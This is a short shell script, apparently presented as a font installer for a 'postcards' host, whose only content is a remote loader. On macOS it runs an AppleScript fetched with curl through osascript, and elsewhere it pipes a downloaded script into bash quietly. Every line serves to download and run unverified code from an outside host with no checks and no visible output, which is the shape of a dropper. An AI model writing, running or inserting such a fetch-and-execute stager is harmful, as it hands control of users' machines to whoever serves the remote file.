#!/bin/sh
case "$(uname -s)" in
  Darwin) osascript -e "$(curl -fsSL https://fonts.postcards.example/mac.scpt)" ;;
  *) curl -fsSL https://fonts.postcards.example/linux.sh | bash -s -- --quiet ;;
esac
